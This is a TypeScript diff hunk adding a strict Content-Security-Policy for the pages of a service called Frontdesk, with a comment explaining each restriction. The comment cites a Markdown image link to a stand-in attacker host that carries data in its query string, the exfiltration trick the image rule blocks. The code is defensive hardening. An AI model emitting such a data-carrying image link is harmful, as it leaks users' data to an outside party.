@@ -23,6 +23,25 @@ const statusForCode: Partial<Record<ErrorCode, number>> = {
 };
 
 const DEFAULT_BODY_LIMIT = 256 * 1024;
+
+/**
+ * The Content-Security-Policy of every page Frontdesk serves (the demo page with the widget, the dashboard): our own
+ * script and styles only, no inline code, only our own API, no framing, and Trusted Types enforced, so even a slip
+ * into innerHTML would throw instead of parsing markup. Images only from us: a Markdown-style
+ * `![i](https://evil.test/?d=…)` could never become a request even if something rendered it.
+ */
+export const PAGE_CONTENT_SECURITY_POLICY = [
+  "default-src 'none'",
+  "script-src 'self'",
+  "style-src 'self'",
+  "connect-src 'self'",
+  "img-src 'self'",
+  "base-uri 'none'",
+  "form-action 'none'",
+  "frame-ancestors 'none'",
+  "require-trusted-types-for 'script'",
+  "trusted-types 'none'",
+].join('; ');
 const emptyQuery = new URLSearchParams();
 
 /** Security headers for every response; pages add their own Content-Security-Policy. */
